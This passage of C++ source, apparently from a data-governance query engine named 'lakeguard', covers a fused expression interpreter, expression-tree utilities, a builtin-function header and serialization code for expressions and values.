        regs[inst.dst] = batch.column(static_cast<size_t>(inst.column_index));
        break;
      }
      case FusedOpCode::kLoadConst: {
        LG_ASSIGN_OR_RETURN(regs[inst.dst],
                            SplatValue(inst.literal, inst.out_type, rows));
        break;
      }
      case FusedOpCode::kBinary: {
        if (inst.a >= regs.size() ||
            (inst.b != kNoReg && inst.b >= regs.size())) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column* r = (inst.b == kNoReg) ? nullptr : &regs[inst.b];
        LG_ASSIGN_OR_RETURN(regs[inst.dst],
                            RunBinary(inst, regs[inst.a], r, rows));
        break;
      }
      case FusedOpCode::kUnary: {
        if (inst.a >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column& c = regs[inst.a];
        if (inst.un_op == UnaryOpKind::kNot) {
          std::vector<uint8_t> out(rows, 0);
          std::vector<uint8_t> valid(rows, 1);
          for (size_t i = 0; i < rows; ++i) {
            if (c.IsNull(i)) {
              valid[i] = 0;
            } else if (c.kind() != TypeKind::kBool) {
              return Status::InvalidArgument("NOT requires BOOLEAN input");
            } else {
              out[i] = c.BoolAt(i) ? 0 : 1;
            }
          }
          regs[inst.dst] = Column::FromBools(std::move(out), std::move(valid));
          break;
        }
        ColumnBuilder b(c.kind());
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          if (c.IsNull(i)) {
            b.AppendNull();
          } else if (c.kind() == TypeKind::kInt64) {
            b.AppendInt(-c.IntAt(i));
          } else if (c.kind() == TypeKind::kFloat64) {
            b.AppendDouble(-c.DoubleAt(i));
          } else {
            return Status::InvalidArgument("unary '-' requires numeric input");
          }
        }
        regs[inst.dst] = b.Finish();
        break;
      }
      case FusedOpCode::kIsNull: {
        if (inst.a >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column& c = regs[inst.a];
        std::vector<uint8_t> out(rows, 0);
        std::vector<uint8_t> valid(rows, 1);
        for (size_t i = 0; i < rows; ++i) {
          const bool is_null = c.IsNull(i);
          out[i] = (inst.negated ? !is_null : is_null) ? 1 : 0;
        }
        regs[inst.dst] = Column::FromBools(std::move(out), std::move(valid));
        break;
      }
      case FusedOpCode::kIn: {
        if (inst.a >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column& c = regs[inst.a];
        ColumnBuilder b(TypeKind::kBool);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          if (c.IsNull(i)) {
            b.AppendNull();
            continue;
          }
          const Value v = c.GetValue(i);
          bool found = false;
          for (const Value& item : inst.list) {
            if (v.SqlEquals(item)) {
              found = true;
              break;
            }
          }
          b.AppendBool(inst.negated ? !found : found);
        }
        regs[inst.dst] = b.Finish();
        break;
      }
      case FusedOpCode::kLike: {
        if (inst.a >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column& c = regs[inst.a];
        if (c.kind() != TypeKind::kString && c.kind() != TypeKind::kBinary &&
            c.kind() != TypeKind::kNull) {
          return Status::InvalidArgument("LIKE requires STRING input");
        }
        ColumnBuilder b(TypeKind::kBool);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          if (c.IsNull(i)) {
            b.AppendNull();
            continue;
          }
          const bool hit = SqlLikeMatch(c.StringAt(i), inst.pattern);
          b.AppendBool(inst.negated ? !hit : hit);
        }
        regs[inst.dst] = b.Finish();
        break;
      }
      case FusedOpCode::kCast: {
        if (inst.a >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const Column& c = regs[inst.a];
        ColumnBuilder b(inst.cast_target);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          LG_ASSIGN_OR_RETURN(Value v, c.GetValue(i).CastTo(inst.cast_target));
          LG_RETURN_IF_ERROR(b.AppendValue(v));
        }
        regs[inst.dst] = b.Finish();
        break;
      }
      case FusedOpCode::kCase: {
        if (inst.args.size() % 2 != 0) {
          return Status::Internal("malformed CASE instruction");
        }
        for (uint16_t reg : inst.args) {
          if (reg >= regs.size()) {
            return Status::Internal("compiled program operand out of range");
          }
        }
        if (inst.b != kNoReg && inst.b >= regs.size()) {
          return Status::Internal("compiled program operand out of range");
        }
        const size_t num_branches = inst.args.size() / 2;
        ColumnBuilder b(inst.out_type);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          bool matched = false;
          for (size_t k = 0; k < num_branches; ++k) {
            const Column& c = regs[inst.args[2 * k]];
            if (!c.IsNull(i) && c.kind() == TypeKind::kBool && c.BoolAt(i)) {
              LG_RETURN_IF_ERROR(AppendCell(&b, inst.out_type,
                                            regs[inst.args[2 * k + 1]], i));
              matched = true;
              break;
            }
          }
          if (!matched) {
            if (inst.b != kNoReg) {
              LG_RETURN_IF_ERROR(AppendCell(&b, inst.out_type, regs[inst.b], i));
            } else {
              b.AppendNull();
            }
          }
        }
        regs[inst.dst] = b.Finish();
        break;
      }
      case FusedOpCode::kCall: {
        for (uint16_t reg : inst.args) {
          if (reg >= regs.size()) {
            return Status::Internal("compiled program operand out of range");
          }
        }
        LG_ASSIGN_OR_RETURN(regs[inst.dst], RunCall(inst, regs, rows, ctx));
        break;
      }
    }
  }
  if (program.result_reg >= regs.size()) {
    return Status::Internal("compiled program result register out of range");
  }
  return std::move(regs[program.result_reg]);
}

Result<std::vector<uint8_t>> RunProgramMask(const CompiledExpr& program,
                                            const RecordBatch& batch,
                                            const EvalContext& ctx) {
  LG_ASSIGN_OR_RETURN(Column c, RunProgram(program, batch, ctx));
  if (c.kind() != TypeKind::kBool && c.kind() != TypeKind::kNull) {
    return Status::InvalidArgument("predicate must be BOOLEAN, got " +
                                   std::string(TypeKindName(c.kind())));
  }
  std::vector<uint8_t> mask(batch.num_rows(), 0);
  for (size_t i = 0; i < mask.size(); ++i) {
    mask[i] = (!c.IsNull(i) && c.kind() == TypeKind::kBool && c.BoolAt(i))
                  ? 1
                  : 0;
  }
  return mask;
}

}  // namespace lakeguard
