#include "expr/expr.h"

#include "common/strings.h"

namespace lakeguard {

const char* BinaryOpName(BinaryOpKind op) {
  switch (op) {
    case BinaryOpKind::kAdd:
      return "+";
    case BinaryOpKind::kSub:
      return "-";
    case BinaryOpKind::kMul:
      return "*";
    case BinaryOpKind::kDiv:
      return "/";
    case BinaryOpKind::kMod:
      return "%";
    case BinaryOpKind::kEq:
      return "=";
    case BinaryOpKind::kNe:
      return "<>";
    case BinaryOpKind::kLt:
      return "<";
    case BinaryOpKind::kLe:
      return "<=";
    case BinaryOpKind::kGt:
      return ">";
    case BinaryOpKind::kGe:
      return ">=";
    case BinaryOpKind::kAnd:
      return "AND";
    case BinaryOpKind::kOr:
      return "OR";
  }
  return "?";
}

const char* UnaryOpName(UnaryOpKind op) {
  switch (op) {
    case UnaryOpKind::kNot:
      return "NOT";
    case UnaryOpKind::kNegate:
      return "-";
  }
  return "?";
}

std::string LiteralExpr::ToString() const {
  if (value_.is_string()) return "'" + value_.string_value() + "'";
  return value_.ToString();
}

bool LiteralExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kLiteral) return false;
  return value_ == static_cast<const LiteralExpr&>(other).value_;
}

std::string ColumnRefExpr::ToString() const {
  if (resolved()) return name_ + "#" + std::to_string(index_);
  return name_;
}

bool ColumnRefExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kColumnRef) return false;
  const auto& o = static_cast<const ColumnRefExpr&>(other);
  return EqualsIgnoreCase(name_, o.name_) && index_ == o.index_;
}

std::string BinaryOpExpr::ToString() const {
  return "(" + left_->ToString() + " " + BinaryOpName(op_) + " " +
         right_->ToString() + ")";
}

bool BinaryOpExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kBinaryOp) return false;
  const auto& o = static_cast<const BinaryOpExpr&>(other);
  return op_ == o.op_ && left_->Equals(*o.left_) && right_->Equals(*o.right_);
}

std::string UnaryOpExpr::ToString() const {
  return std::string("(") + UnaryOpName(op_) + " " + child_->ToString() + ")";
}

bool UnaryOpExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kUnaryOp) return false;
  const auto& o = static_cast<const UnaryOpExpr&>(other);
  return op_ == o.op_ && child_->Equals(*o.child_);
}

std::string FunctionCallExpr::ToString() const {
  std::string out = ToUpperAscii(name_) + "(";
  for (size_t i = 0; i < args_.size(); ++i) {
    if (i > 0) out += ", ";
    out += args_[i]->ToString();
  }
  out += ")";
  return out;
}

bool FunctionCallExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kFunctionCall) return false;
  const auto& o = static_cast<const FunctionCallExpr&>(other);
  if (!EqualsIgnoreCase(name_, o.name_) || args_.size() != o.args_.size()) {
    return false;
  }
  for (size_t i = 0; i < args_.size(); ++i) {
    if (!args_[i]->Equals(*o.args_[i])) return false;
  }
  return true;
}

std::string CastExpr::ToString() const {
  return "CAST(" + child_->ToString() + " AS " + TypeKindName(target_) + ")";
}

bool CastExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kCast) return false;
  const auto& o = static_cast<const CastExpr&>(other);
  return target_ == o.target_ && child_->Equals(*o.child_);
}

std::string CaseExpr::ToString() const {
  std::string out = "CASE";
  for (const Branch& b : branches_) {
    out += " WHEN " + b.condition->ToString() + " THEN " +
           b.value->ToString();
  }
  if (else_value_) out += " ELSE " + else_value_->ToString();
  out += " END";
  return out;
}

bool CaseExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kCase) return false;
  const auto& o = static_cast<const CaseExpr&>(other);
  if (branches_.size() != o.branches_.size()) return false;
  for (size_t i = 0; i < branches_.size(); ++i) {
    if (!branches_[i].condition->Equals(*o.branches_[i].condition)) {
      return false;
    }
    if (!branches_[i].value->Equals(*o.branches_[i].value)) return false;
  }
  if ((else_value_ == nullptr) != (o.else_value_ == nullptr)) return false;
  return else_value_ == nullptr || else_value_->Equals(*o.else_value_);
}

std::vector<ExprPtr> CaseExpr::children() const {
  std::vector<ExprPtr> out;
  for (const Branch& b : branches_) {
    out.push_back(b.condition);
    out.push_back(b.value);
  }
  if (else_value_) out.push_back(else_value_);
  return out;
}

std::string InExpr::ToString() const {
  std::string out = child_->ToString();
  out += negated_ ? " NOT IN (" : " IN (";
  for (size_t i = 0; i < list_.size(); ++i) {
    if (i > 0) out += ", ";
    if (list_[i].is_string()) {
      out += "'" + list_[i].string_value() + "'";
    } else {
      out += list_[i].ToString();
    }
  }
  out += ")";
  return out;
}

bool InExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kIn) return false;
  const auto& o = static_cast<const InExpr&>(other);
  if (negated_ != o.negated_ || list_.size() != o.list_.size()) return false;
  for (size_t i = 0; i < list_.size(); ++i) {
    if (!(list_[i] == o.list_[i])) return false;
  }
  return child_->Equals(*o.child_);
}

std::string IsNullExpr::ToString() const {
  return child_->ToString() + (negated_ ? " IS NOT NULL" : " IS NULL");
}

bool IsNullExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kIsNull) return false;
  const auto& o = static_cast<const IsNullExpr&>(other);
  return negated_ == o.negated_ && child_->Equals(*o.child_);
}

std::string LikeExpr::ToString() const {
  return child_->ToString() + (negated_ ? " NOT LIKE '" : " LIKE '") +
         pattern_ + "'";
}

bool LikeExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kLike) return false;
  const auto& o = static_cast<const LikeExpr&>(other);
  return negated_ == o.negated_ && pattern_ == o.pattern_ &&
         child_->Equals(*o.child_);
}

std::string UdfCallExpr::ToString() const {
  std::string out = "UDF:" + function_name_ + "(";
  for (size_t i = 0; i < args_.size(); ++i) {
    if (i > 0) out += ", ";
    out += args_[i]->ToString();
  }
  out += ")";
  return out;
}

bool UdfCallExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kUdfCall) return false;
  const auto& o = static_cast<const UdfCallExpr&>(other);
  if (function_name_ != o.function_name_ || owner_ != o.owner_ ||
      return_type_ != o.return_type_ || args_.size() != o.args_.size()) {
    return false;
  }
  for (size_t i = 0; i < args_.size(); ++i) {
    if (!args_[i]->Equals(*o.args_[i])) return false;
  }
  return true;
}

std::string FusedPolicyExpr::ToString() const {
  return "POLICY[" + child_->ToString() + "]";
}

bool FusedPolicyExpr::Equals(const Expr& other) const {
  if (other.kind() != ExprKind::kFusedPolicy) return false;
  return child_->Equals(*static_cast<const FusedPolicyExpr&>(other).child_);
}

ExprPtr Lit(Value v) { return std::make_shared<LiteralExpr>(std::move(v)); }
ExprPtr LitInt(int64_t v) { return Lit(Value::Int(v)); }
ExprPtr LitDouble(double v) { return Lit(Value::Double(v)); }
ExprPtr LitString(std::string v) { return Lit(Value::String(std::move(v))); }
ExprPtr LitBool(bool v) { return Lit(Value::Bool(v)); }
ExprPtr LitNull() { return Lit(Value::Null()); }
ExprPtr Col(std::string name) {
  return std::make_shared<ColumnRefExpr>(std::move(name));
}
ExprPtr ColIdx(std::string name, int index) {
  return std::make_shared<ColumnRefExpr>(std::move(name), index);
}
ExprPtr BinOp(BinaryOpKind op, ExprPtr l, ExprPtr r) {
  return std::make_shared<BinaryOpExpr>(op, std::move(l), std::move(r));
}
ExprPtr Eq(ExprPtr l, ExprPtr r) {
  return BinOp(BinaryOpKind::kEq, std::move(l), std::move(r));
}
ExprPtr And(ExprPtr l, ExprPtr r) {
  return BinOp(BinaryOpKind::kAnd, std::move(l), std::move(r));
}
ExprPtr Or(ExprPtr l, ExprPtr r) {
  return BinOp(BinaryOpKind::kOr, std::move(l), std::move(r));
}
ExprPtr Not(ExprPtr e) {
  return std::make_shared<UnaryOpExpr>(UnaryOpKind::kNot, std::move(e));
}
ExprPtr Func(std::string name, std::vector<ExprPtr> args) {
  return std::make_shared<FunctionCallExpr>(std::move(name), std::move(args));
}
ExprPtr CastTo(ExprPtr e, TypeKind target) {
  return std::make_shared<CastExpr>(std::move(e), target);
}
ExprPtr Udf(std::string name, std::string owner, TypeKind return_type,
            std::vector<ExprPtr> args) {
  return std::make_shared<UdfCallExpr>(std::move(name), std::move(owner),
                                       return_type, std::move(args));
}
ExprPtr FusedPolicy(ExprPtr child) {
  return std::make_shared<FusedPolicyExpr>(std::move(child));
}

void CollectColumnRefs(const ExprPtr& expr, std::vector<std::string>* out) {
  if (expr->kind() == ExprKind::kColumnRef) {
    out->push_back(static_cast<const ColumnRefExpr&>(*expr).name());
    return;
  }
  for (const ExprPtr& child : expr->children()) {
    CollectColumnRefs(child, out);
  }
}

ExprPtr RewriteExpr(const ExprPtr& expr,
                    const std::function<ExprPtr(const ExprPtr&)>& fn) {
  // Rewrite children first, then the node itself.
  ExprPtr with_children = expr;
  switch (expr->kind()) {
    case ExprKind::kLiteral:
    case ExprKind::kColumnRef:
      break;
    case ExprKind::kBinaryOp: {
      const auto& e = static_cast<const BinaryOpExpr&>(*expr);
      ExprPtr l = RewriteExpr(e.left(), fn);
      ExprPtr r = RewriteExpr(e.right(), fn);
      if (l != e.left() || r != e.right()) {
        with_children = std::make_shared<BinaryOpExpr>(e.op(), l, r);
      }
      break;
    }
    case ExprKind::kUnaryOp: {
      const auto& e = static_cast<const UnaryOpExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children = std::make_shared<UnaryOpExpr>(e.op(), c);
      }
      break;
    }
    case ExprKind::kFunctionCall: {
      const auto& e = static_cast<const FunctionCallExpr&>(*expr);
      std::vector<ExprPtr> args;
      bool changed = false;
      for (const ExprPtr& a : e.args()) {
        ExprPtr na = RewriteExpr(a, fn);
        changed |= (na != a);
        args.push_back(na);
      }
      if (changed) {
        with_children =
            std::make_shared<FunctionCallExpr>(e.name(), std::move(args));
      }
      break;
    }
    case ExprKind::kCast: {
      const auto& e = static_cast<const CastExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children = std::make_shared<CastExpr>(c, e.target());
      }
      break;
    }
    case ExprKind::kCase: {
      const auto& e = static_cast<const CaseExpr&>(*expr);
      std::vector<CaseExpr::Branch> branches;
      bool changed = false;
      for (const CaseExpr::Branch& b : e.branches()) {
        CaseExpr::Branch nb;
        nb.condition = RewriteExpr(b.condition, fn);
        nb.value = RewriteExpr(b.value, fn);
        changed |= (nb.condition != b.condition || nb.value != b.value);
        branches.push_back(std::move(nb));
      }
      ExprPtr else_value = e.else_value();
      if (else_value) {
        ExprPtr ne = RewriteExpr(else_value, fn);
        changed |= (ne != else_value);
        else_value = ne;
      }
      if (changed) {
        with_children =
            std::make_shared<CaseExpr>(std::move(branches), else_value);
      }
      break;
    }
    case ExprKind::kIn: {
      const auto& e = static_cast<const InExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children = std::make_shared<InExpr>(c, e.list(), e.negated());
      }
      break;
    }
    case ExprKind::kIsNull: {
      const auto& e = static_cast<const IsNullExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children = std::make_shared<IsNullExpr>(c, e.negated());
      }
      break;
    }
    case ExprKind::kLike: {
      const auto& e = static_cast<const LikeExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children =
            std::make_shared<LikeExpr>(c, e.pattern(), e.negated());
      }
      break;
    }
    case ExprKind::kUdfCall: {
      const auto& e = static_cast<const UdfCallExpr&>(*expr);
      std::vector<ExprPtr> args;
      bool changed = false;
      for (const ExprPtr& a : e.args()) {
        ExprPtr na = RewriteExpr(a, fn);
        changed |= (na != a);
        args.push_back(na);
      }
      if (changed) {
        with_children = std::make_shared<UdfCallExpr>(
            e.function_name(), e.owner(), e.return_type(), std::move(args));
      }
      break;
    }
    case ExprKind::kFusedPolicy: {
      const auto& e = static_cast<const FusedPolicyExpr&>(*expr);
      ExprPtr c = RewriteExpr(e.child(), fn);
      if (c != e.child()) {
        with_children = std::make_shared<FusedPolicyExpr>(c);
      }
      break;
    }
  }
  ExprPtr replaced = fn(with_children);
  return replaced ? replaced : with_children;
}

bool ExprContains(const ExprPtr& expr,
                  const std::function<bool(const Expr&)>& pred) {
  if (pred(*expr)) return true;
  for (const ExprPtr& child : expr->children()) {
    if (ExprContains(child, pred)) return true;
  }
  return false;
}

bool ContainsUdfCall(const ExprPtr& expr) {
  return ExprContains(
      expr, [](const Expr& e) { return e.kind() == ExprKind::kUdfCall; });
}

ExprPtr StripFusedPolicyMarkers(const ExprPtr& expr) {
  return RewriteExpr(expr, [](const ExprPtr& e) -> ExprPtr {
    if (e->kind() != ExprKind::kFusedPolicy) return ExprPtr(nullptr);
    return static_cast<const FusedPolicyExpr&>(*e).child();
  });
}

}  // namespace lakeguard
