#ifndef LAKEGUARD_EXPR_FUNCTIONS_H_
#define LAKEGUARD_EXPR_FUNCTIONS_H_

#include <functional>
#include <string>
#include <vector>

#include "columnar/types.h"
#include "columnar/value.h"
#include "common/status.h"

namespace lakeguard {

struct EvalContext;

/// A builtin scalar function: fixed arity range, a result-type rule and a
/// row-wise evaluator. Builtins are *trusted* engine code (unlike UDFs,
/// which run sandboxed); they include the context-sensitive governance
/// functions CURRENT_USER() and IS_ACCOUNT_GROUP_MEMBER() that dynamic views
/// and row filters are written against (§2.3).
struct BuiltinFunction {
  std::string name;
  size_t min_args = 0;
  size_t max_args = 0;
  std::function<Result<TypeKind>(const std::vector<TypeKind>&)> infer;
  std::function<Result<Value>(const std::vector<Value>&, const EvalContext&)>
      eval;
};

/// Looks up a builtin by case-insensitive name; NotFound if absent.
Result<const BuiltinFunction*> LookupBuiltin(const std::string& name);

/// True for SUM/COUNT/AVG/MIN/MAX — these parse as FunctionCall but are
/// executed by the Aggregate plan operator, never row-wise.
bool IsAggregateFunctionName(const std::string& name);

/// All registered builtin names (for error messages and docs).
std::vector<std::string> BuiltinFunctionNames();

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_FUNCTIONS_H_
