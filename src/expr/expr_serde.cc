#include "expr/expr_serde.h"

namespace lakeguard {

void SerializeValue(const Value& v, ByteWriter* writer) {
  writer->PutByte(static_cast<uint8_t>(v.type()));
  switch (v.type()) {
    case TypeKind::kNull:
      break;
    case TypeKind::kBool:
      writer->PutBool(v.bool_value());
      break;
    case TypeKind::kInt64:
      writer->PutZigzag(v.int_value());
      break;
    case TypeKind::kFloat64:
      writer->PutDouble(v.double_value());
      break;
    case TypeKind::kString:
    case TypeKind::kBinary:
      writer->PutString(v.string_value());
      break;
  }
}

Result<Value> DeserializeValue(ByteReader* reader) {
  LG_ASSIGN_OR_RETURN(uint8_t kind_byte, reader->ReadByte());
  if (kind_byte > static_cast<uint8_t>(TypeKind::kBinary)) {
    return Status::DataLoss("invalid value kind " + std::to_string(kind_byte));
  }
  TypeKind kind = static_cast<TypeKind>(kind_byte);
  switch (kind) {
    case TypeKind::kNull:
      return Value::Null();
    case TypeKind::kBool: {
      LG_ASSIGN_OR_RETURN(bool b, reader->ReadBool());
      return Value::Bool(b);
    }
    case TypeKind::kInt64: {
      LG_ASSIGN_OR_RETURN(int64_t i, reader->ReadZigzag());
      return Value::Int(i);
    }
    case TypeKind::kFloat64: {
      LG_ASSIGN_OR_RETURN(double d, reader->ReadDouble());
      return Value::Double(d);
    }
    case TypeKind::kString: {
      LG_ASSIGN_OR_RETURN(std::string s, reader->ReadString());
      return Value::String(std::move(s));
    }
    case TypeKind::kBinary: {
      LG_ASSIGN_OR_RETURN(std::string s, reader->ReadString());
      return Value::Binary(std::move(s));
    }
  }
  return Status::Internal("unreachable value kind");
}

void SerializeExpr(const ExprPtr& expr, ByteWriter* writer) {
  writer->PutByte(static_cast<uint8_t>(expr->kind()));
  switch (expr->kind()) {
    case ExprKind::kLiteral:
      SerializeValue(static_cast<const LiteralExpr&>(*expr).value(), writer);
      break;
    case ExprKind::kColumnRef: {
      const auto& e = static_cast<const ColumnRefExpr&>(*expr);
      writer->PutString(e.name());
      writer->PutZigzag(e.index());
      break;
    }
    case ExprKind::kBinaryOp: {
      const auto& e = static_cast<const BinaryOpExpr&>(*expr);
      writer->PutByte(static_cast<uint8_t>(e.op()));
      SerializeExpr(e.left(), writer);
      SerializeExpr(e.right(), writer);
      break;
    }
    case ExprKind::kUnaryOp: {
      const auto& e = static_cast<const UnaryOpExpr&>(*expr);
      writer->PutByte(static_cast<uint8_t>(e.op()));
      SerializeExpr(e.child(), writer);
      break;
    }
    case ExprKind::kFunctionCall: {
      const auto& e = static_cast<const FunctionCallExpr&>(*expr);
      writer->PutString(e.name());
      writer->PutVarint(e.args().size());
      for (const ExprPtr& a : e.args()) SerializeExpr(a, writer);
      break;
    }
    case ExprKind::kCast: {
      const auto& e = static_cast<const CastExpr&>(*expr);
      writer->PutByte(static_cast<uint8_t>(e.target()));
      SerializeExpr(e.child(), writer);
      break;
    }
    case ExprKind::kCase: {
      const auto& e = static_cast<const CaseExpr&>(*expr);
      writer->PutVarint(e.branches().size());
      for (const CaseExpr::Branch& b : e.branches()) {
        SerializeExpr(b.condition, writer);
        SerializeExpr(b.value, writer);
      }
      writer->PutBool(e.else_value() != nullptr);
      if (e.else_value()) SerializeExpr(e.else_value(), writer);
      break;
    }
    case ExprKind::kIn: {
      const auto& e = static_cast<const InExpr&>(*expr);
      SerializeExpr(e.child(), writer);
      writer->PutVarint(e.list().size());
      for (const Value& v : e.list()) SerializeValue(v, writer);
      writer->PutBool(e.negated());
      break;
    }
    case ExprKind::kIsNull: {
      const auto& e = static_cast<const IsNullExpr&>(*expr);
      SerializeExpr(e.child(), writer);
      writer->PutBool(e.negated());
      break;
    }
    case ExprKind::kLike: {
      const auto& e = static_cast<const LikeExpr&>(*expr);
      SerializeExpr(e.child(), writer);
      writer->PutString(e.pattern());
      writer->PutBool(e.negated());
      break;
    }
    case ExprKind::kUdfCall: {
      const auto& e = static_cast<const UdfCallExpr&>(*expr);
      writer->PutString(e.function_name());
      writer->PutString(e.owner());
      writer->PutByte(static_cast<uint8_t>(e.return_type()));
      writer->PutVarint(e.args().size());
      for (const ExprPtr& a : e.args()) SerializeExpr(a, writer);
      break;
    }
    case ExprKind::kFusedPolicy:
      SerializeExpr(static_cast<const FusedPolicyExpr&>(*expr).child(),
                    writer);
      break;
  }
}

Result<ExprPtr> DeserializeExpr(ByteReader* reader) {
  LG_ASSIGN_OR_RETURN(uint8_t kind_byte, reader->ReadByte());
  if (kind_byte > static_cast<uint8_t>(ExprKind::kFusedPolicy)) {
    return Status::DataLoss("invalid expr kind " + std::to_string(kind_byte));
  }
  switch (static_cast<ExprKind>(kind_byte)) {
    case ExprKind::kLiteral: {
      LG_ASSIGN_OR_RETURN(Value v, DeserializeValue(reader));
      return Lit(std::move(v));
    }
    case ExprKind::kColumnRef: {
      LG_ASSIGN_OR_RETURN(std::string name, reader->ReadString());
      LG_ASSIGN_OR_RETURN(int64_t index, reader->ReadZigzag());
      return ColIdx(std::move(name), static_cast<int>(index));
    }
    case ExprKind::kBinaryOp: {
      LG_ASSIGN_OR_RETURN(uint8_t op, reader->ReadByte());
      if (op > static_cast<uint8_t>(BinaryOpKind::kOr)) {
        return Status::DataLoss("invalid binary op");
      }
      LG_ASSIGN_OR_RETURN(ExprPtr l, DeserializeExpr(reader));
      LG_ASSIGN_OR_RETURN(ExprPtr r, DeserializeExpr(reader));
      return BinOp(static_cast<BinaryOpKind>(op), std::move(l), std::move(r));
    }
    case ExprKind::kUnaryOp: {
      LG_ASSIGN_OR_RETURN(uint8_t op, reader->ReadByte());
      if (op > static_cast<uint8_t>(UnaryOpKind::kNegate)) {
        return Status::DataLoss("invalid unary op");
      }
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      return ExprPtr(std::make_shared<UnaryOpExpr>(
          static_cast<UnaryOpKind>(op), std::move(c)));
    }
    case ExprKind::kFunctionCall: {
      LG_ASSIGN_OR_RETURN(std::string name, reader->ReadString());
      LG_ASSIGN_OR_RETURN(uint64_t n, reader->ReadVarint());
      std::vector<ExprPtr> args;
      for (uint64_t i = 0; i < n; ++i) {
        LG_ASSIGN_OR_RETURN(ExprPtr a, DeserializeExpr(reader));
        args.push_back(std::move(a));
      }
      return Func(std::move(name), std::move(args));
    }
    case ExprKind::kCast: {
      LG_ASSIGN_OR_RETURN(uint8_t target, reader->ReadByte());
      if (target > static_cast<uint8_t>(TypeKind::kBinary)) {
        return Status::DataLoss("invalid cast target");
      }
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      return CastTo(std::move(c), static_cast<TypeKind>(target));
    }
    case ExprKind::kCase: {
      LG_ASSIGN_OR_RETURN(uint64_t n, reader->ReadVarint());
      std::vector<CaseExpr::Branch> branches;
      for (uint64_t i = 0; i < n; ++i) {
        CaseExpr::Branch b;
        LG_ASSIGN_OR_RETURN(b.condition, DeserializeExpr(reader));
        LG_ASSIGN_OR_RETURN(b.value, DeserializeExpr(reader));
        branches.push_back(std::move(b));
      }
      LG_ASSIGN_OR_RETURN(bool has_else, reader->ReadBool());
      ExprPtr else_value;
      if (has_else) {
        LG_ASSIGN_OR_RETURN(else_value, DeserializeExpr(reader));
      }
      return ExprPtr(std::make_shared<CaseExpr>(std::move(branches),
                                                std::move(else_value)));
    }
    case ExprKind::kIn: {
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      LG_ASSIGN_OR_RETURN(uint64_t n, reader->ReadVarint());
      std::vector<Value> list;
      for (uint64_t i = 0; i < n; ++i) {
        LG_ASSIGN_OR_RETURN(Value v, DeserializeValue(reader));
        list.push_back(std::move(v));
      }
      LG_ASSIGN_OR_RETURN(bool negated, reader->ReadBool());
      return ExprPtr(
          std::make_shared<InExpr>(std::move(c), std::move(list), negated));
    }
    case ExprKind::kIsNull: {
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      LG_ASSIGN_OR_RETURN(bool negated, reader->ReadBool());
      return ExprPtr(std::make_shared<IsNullExpr>(std::move(c), negated));
    }
    case ExprKind::kLike: {
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      LG_ASSIGN_OR_RETURN(std::string pattern, reader->ReadString());
      LG_ASSIGN_OR_RETURN(bool negated, reader->ReadBool());
      return ExprPtr(std::make_shared<LikeExpr>(std::move(c),
                                                std::move(pattern), negated));
    }
    case ExprKind::kUdfCall: {
      LG_ASSIGN_OR_RETURN(std::string name, reader->ReadString());
      LG_ASSIGN_OR_RETURN(std::string owner, reader->ReadString());
      LG_ASSIGN_OR_RETURN(uint8_t ret, reader->ReadByte());
      if (ret > static_cast<uint8_t>(TypeKind::kBinary)) {
        return Status::DataLoss("invalid udf return type");
      }
      LG_ASSIGN_OR_RETURN(uint64_t n, reader->ReadVarint());
      std::vector<ExprPtr> args;
      for (uint64_t i = 0; i < n; ++i) {
        LG_ASSIGN_OR_RETURN(ExprPtr a, DeserializeExpr(reader));
        args.push_back(std::move(a));
      }
      return Udf(std::move(name), std::move(owner),
                 static_cast<TypeKind>(ret), std::move(args));
    }
    case ExprKind::kFusedPolicy: {
      LG_ASSIGN_OR_RETURN(ExprPtr c, DeserializeExpr(reader));
      return FusedPolicy(std::move(c));
    }
  }
  return Status::Internal("unreachable expr kind");
}

}  // namespace lakeguard
