#ifndef LAKEGUARD_EXPR_EXPR_SERDE_H_
#define LAKEGUARD_EXPR_EXPR_SERDE_H_

#include "common/serde.h"
#include "expr/expr.h"

namespace lakeguard {

/// Wire encoding for scalars (literals, IN-lists, parameters).
void SerializeValue(const Value& v, ByteWriter* writer);
Result<Value> DeserializeValue(ByteReader* reader);

/// Wire encoding for expression trees — the Expression message family of the
/// Connect protocol. The encoding is tag-free positional within a node but
/// each node starts with its kind byte, so decoding is unambiguous;
/// version-tolerance for *plans* is handled one level up.
